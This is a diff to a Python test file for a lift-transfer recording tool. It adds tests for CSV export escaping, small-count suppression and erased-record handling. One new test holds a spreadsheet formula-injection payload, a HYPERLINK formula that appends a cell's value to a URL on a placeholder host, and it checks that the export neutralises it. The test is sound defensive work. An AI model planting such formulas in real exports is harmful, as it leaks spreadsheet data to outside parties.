@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import sqlite3
 import threading
@@ -24,7 +25,7 @@ from liftctl.places import Places
 from liftctl.recorder import erasure
 from liftctl.recorder.checkpoint import parse
 from liftctl.recorder.entries import Entry
-from liftctl.recorder.export import as_counts, chosen
+from liftctl.recorder.export import as_counts, as_table, chosen
 from liftctl.recorder.ledger import Ledger
 from liftctl.recorder.reader import read_transfers
 from liftctl.recorder.shell import Recorder
@@ -204,6 +205,15 @@ def test_an_export_leaves_out_what_staff_wrote(places: Places, tmp_path: Path) -
     assert run("export", places.ledger, "--format", "xml").exit_code == 2
 
 
+def test_no_cell_of_the_ledgers_csv_is_a_formula() -> None:
+    evil = '=HYPERLINK("http://x/?"&A2,"click")'
+    told = {"id": "t", "note": evil, "reason": "+1+1", "kind": "@SUM(A1)", "elapsed_s": -1.5}
+    text = "".join(as_table([told]))
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert (row["note"], row["reason"], row["kind"]) == (f"'{evil}", "'+1+1", "'@SUM(A1)")
+    assert row["elapsed_s"] == "-1.5", "a number stays a number"
+
+
 def test_a_count_with_fewer_than_five_residents_behind_it_is_not_told() -> None:
     def record(n: int, kind: str, resident: str) -> dict[str, Any]:
         return {"id": str(n), "kind": kind, "resident": resident, "outcome": "completed",
@@ -213,7 +223,21 @@ def test_a_count_with_fewer_than_five_residents_behind_it_is_not_told() -> None:
     told += [record(n, "chair-bed", f"r-{n % 4}") for n in range(40)]
     rows = list(csv.DictReader(as_counts(chosen(told))))
     counts = {row["kind"]: row["transfers"] for row in rows}
-    assert counts == {"bed-chair": "12", "chair-bed": "<5"}
+    assert counts == {"bed-chair": "12", "chair-bed": "fewer than 5 residents"}, "forty transfers"
+
+
+@pytest.mark.parametrize(
+    "asked", [("--since", "2026-01-01"), ("--until", "2027-01-01"), ("--until", "2026-01-01")]
+)
+def test_an_erased_record_is_in_no_period_and_that_is_said(
+    places: Places, asked: tuple[str, str]
+) -> None:
+    fill(places, {"id": "gone", "started_utc": "2026-06-01T10:00:00+00:00"})
+    run("erase", places.ledger, "--transfer", "gone", "--yes")
+    done = run("export", places.ledger, *asked)
+    assert done.stdout == ""
+    assert "1 without a date (erased) are in no period" in done.stderr
+    assert '"gone"' in run("export", places.ledger).stdout
 
 
 def test_seal_prints_a_checkpoint_that_later_verifies(places: Places, tmp_path: Path) -> None:
